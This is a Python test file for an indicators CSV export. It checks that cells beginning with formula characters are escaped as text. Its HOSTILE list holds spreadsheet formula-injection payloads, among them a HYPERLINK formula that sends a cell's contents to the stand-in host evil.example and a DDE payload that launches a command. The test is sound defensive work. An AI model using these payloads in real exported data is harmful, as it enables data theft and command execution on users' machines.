"""The indicators CSV neutralises cells a spreadsheet would run as a formula: a benefit id is
free text (a referent's outcome), so « =HYPERLINK(...) » must arrive as text."""

from __future__ import annotations

import csv
import io
from datetime import date

from handoff.indicators import build, to_csv, week_of
from storage.models import FunnelEvent

DAY = date(2026, 10, 7)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "+33612345678", "-2+3",
           "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_cells_that_start_a_formula_are_quoted(sqlite_db):
    with sqlite_db.session() as session:
        for benefit in HOSTILE + ["rsa"]:
            for _ in range(6):  # above the small-count mask
                session.add(FunnelEvent(kind="right_found", week=week_of(DAY), channel="sms",
                                        moment="job_loss", benefit=benefit, amount_year=100))
        session.flush()
        report = build(session, start=date(2026, 10, 1), end=date(2026, 10, 31),
                       labels={"rsa": "RSA"})
    rows = list(csv.reader(io.StringIO(to_csv(report)), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert cells, "the report is empty"
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), repr(cell)
    keys = {row[3] for row in rows if row[2] == "by_benefit"}
    assert {"'" + hostile for hostile in HOSTILE} <= keys  # still readable, as text
    assert "rsa" in keys
    # Figures stay numbers.
    assert any(row[2] == "by_benefit" and row[3] == "rsa" and row[-1] == "6" for row in rows)
